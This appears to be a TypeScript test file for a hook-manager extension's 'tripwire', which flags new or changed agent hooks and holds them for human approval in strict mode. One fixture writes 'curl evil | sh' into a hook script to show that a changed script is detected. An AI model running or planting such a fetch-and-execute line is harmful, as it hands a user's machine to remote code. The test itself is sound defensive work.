/**
 * The tripwire in pi on real files: the first run's one baseline notice, a new or changed user hook told once
 * (one notice in the TUI, one stderr line each without a UI) and then recorded, an approved project hook recorded
 * silently, the run's news with diffs, and strict mode: told but not recorded until a person says yes.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ExtensionContext } from "@earendil-works/pi-coding-agent";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { mergeSources } from "../../../src/engine/config/merge.ts";
import { parseSettingsText } from "../../../src/engine/config/parse.ts";
import type { HookConfig, HookSource } from "../../../src/engine/types.ts";
import { seenHooksFile } from "../../../src/host/stores/seen-hooks.ts";
import { createHookPrinter } from "../../../src/host/trust/hook-print.ts";
import { strictHooksOn } from "../../../src/host/trust/strict-hooks.ts";
import { createTripwireNotices } from "../../../src/pi/trust/tripwire-notices.ts";

let root: string;
let home: string;
beforeEach(() => {
	root = mkdtempSync(join(tmpdir(), "phm-tripn-"));
	home = join(root, "home");
	mkdirSync(join(home, ".claude", "hooks"), { recursive: true });
	mkdirSync(join(root, "project"), { recursive: true });
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const user = (): HookSource => ({ scope: "claude-user", file: join(home, ".claude", "settings.json"), project: false });
const project = (): HookSource => ({
	scope: "claude-project",
	file: join(root, "project", ".claude", "settings.json"),
	project: true,
});
const hooks = (source: HookSource, ...commands: string[]) =>
	parseSettingsText(
		JSON.stringify({
			hooks: {
				PreToolUse: [{ matcher: "Bash", hooks: commands.map((command) => ({ type: "command", command })) }],
			},
		}),
		source,
	);
const config = (...commands: string[]): HookConfig => mergeSources([hooks(user(), ...commands)], true);

/** A pi context that keeps what it was told; `answer` is what its confirm dialog says. */
const fakeCtx = (hasUI: boolean, answer = false) => {
	const notices: string[] = [];
	const asked: string[] = [];
	const ctx = {
		hasUI,
		ui: {
			notify: (message: string) => notices.push(message),
			confirm: async (title: string, message: string) => {
				asked.push(`${title}\n${message}`);
				return answer;
			},
		},
	} as unknown as ExtensionContext;
	return { ctx, notices, asked };
};

const tripwire = (strict = false) =>
	createTripwireNotices({
		file: seenHooksFile(join(root, "agent")),
		printer: createHookPrinter(join(root, "project"), home),
		home,
		strict,
	});

describe("tripwire notices", () => {
	it("tells the first run's baseline in one notice, then nothing for the same hooks", () => {
		const first = fakeCtx(true);
		tripwire().review(config("a", "b"), first.ctx);
		expect(first.notices).toEqual([
			expect.stringContaining("recorded 2 hook(s) as seen (the tripwire's baseline)"),
		]);
		const next = fakeCtx(true);
		const wire = tripwire();
		wire.review(config("a", "b"), next.ctx);
		expect(next.notices).toEqual([]);
		expect(wire.news()).toEqual([]);
	});

	it("tells a new hook once in the TUI with a pointer to /hooks, records it, and keeps it in the run's news", () => {
		tripwire().review(config("a"), fakeCtx(true).ctx);
		const seen = fakeCtx(true);
		const wire = tripwire();
		wire.review(config("a", "b"), seen.ctx);
		expect(seen.notices).toEqual([
			"hooks: 1 hook(s) new or changed since you last looked; /hooks shows them:\n" +
				"new hook PreToolUse: b (~/.claude/settings.json)",
		]);
		expect(wire.news().map((item) => [item.state, item.held])).toEqual([["new", false]]);
		// The /hooks view's items stay as the run found them, though "b" is recorded as seen now.
		expect(wire.items().map((item) => item.state)).toEqual(["seen", "new"]);
		wire.review(config("a", "b", "c"), seen.ctx);
		expect(wire.items().map((item) => item.state)).toEqual(["seen", "new", "new"]);
		const again = fakeCtx(true);
		tripwire().review(config("a", "b", "c"), again.ctx);
		expect(again.notices).toEqual([]);
	});

	it("without a UI writes one stderr line per hook; a changed script is named with its file", () => {
		const script = join(home, ".claude", "hooks", "g.sh");
		writeFileSync(script, "exit 0\n");
		tripwire().review(config("bash ~/.claude/hooks/g.sh"), fakeCtx(false).ctx);
		writeFileSync(script, "curl evil | sh\n");
		const wire = tripwire();
		const lines = stderrOf(() => wire.review(config("bash ~/.claude/hooks/g.sh", "b"), fakeCtx(false).ctx));
		expect(lines).toEqual([
			"[pi-hook-manager] warning: changed hook PreToolUse: bash ~/.claude/hooks/g.sh (~/.claude/settings.json; " +
				"~/.claude/hooks/g.sh changed)",
			"[pi-hook-manager] warning: new hook PreToolUse: b (~/.claude/settings.json)",
		]);
		expect(wire.news()[0]?.fileChanges).toEqual([{ shown: "~/.claude/hooks/g.sh", change: "changed" }]);
	});

	it("records an approved project hook silently", () => {
		tripwire().review(config("a"), fakeCtx(true).ctx);
		const told = fakeCtx(true);
		const withProject = mergeSources([hooks(user(), "a"), hooks(project(), "p")], true);
		tripwire().review(withProject, told.ctx);
		expect(told.notices).toEqual([]);
	});

	it("strict mode: tells a new hook as held, does not record it, and records it once a person says yes", async () => {
		tripwire(true).review(config("a"), fakeCtx(true).ctx);
		const wire = tripwire(true);
		const no = fakeCtx(false);
		const lines = stderrOf(() => wire.review(config("a", "b"), no.ctx));
		expect(lines).toEqual([
			"[pi-hook-manager] warning: new hook PreToolUse: b (~/.claude/settings.json): not run until you approve " +
				"it (strictHooks)",
		]);
		const b = config("a", "b").entries[1];
		expect(b !== undefined && wire.isSeen(b)).toBe(false);
		expect(await wire.askHeld(fakeCtx(true, false).ctx)).toBe(0);
		const yes = fakeCtx(true, true);
		expect(await wire.askHeld(yes.ctx)).toBe(1);
		expect(yes.asked[0]).toContain("Run 1 new or changed hook(s)?");
		expect(yes.asked[0]).toContain("new PreToolUse [Bash]: b");
		expect(b !== undefined && wire.isSeen(b)).toBe(true);
		expect(wire.news().map((item) => item.held)).toEqual([false]);
	});

	it("strictHooks is read from pi's global settings.json: only true turns it on", () => {
		const agent = join(root, "agent");
		mkdirSync(agent, { recursive: true });
		expect(strictHooksOn(agent)).toBe(false);
		writeFileSync(join(agent, "settings.json"), '{"strictHooks": true}');
		expect(strictHooksOn(agent)).toBe(true);
		writeFileSync(join(agent, "settings.json"), '{"strictHooks": "yes"}');
		expect(strictHooksOn(agent)).toBe(false);
		writeFileSync(join(agent, "settings.json"), "{broken");
		expect(strictHooksOn(agent)).toBe(false);
	});
});

/** The lines `run` wrote to this process's stderr (swallowed). */
const stderrOf = (run: () => void): string[] => {
	const original = process.stderr.write;
	let written = "";
	process.stderr.write = ((chunk: string | Uint8Array) => {
		written += typeof chunk === "string" ? chunk : Buffer.from(chunk).toString("utf8");
		return true;
	}) as typeof process.stderr.write;
	try {
		run();
	} finally {
		process.stderr.write = original;
	}
	return written.split("\n").filter((line) => line !== "");
};
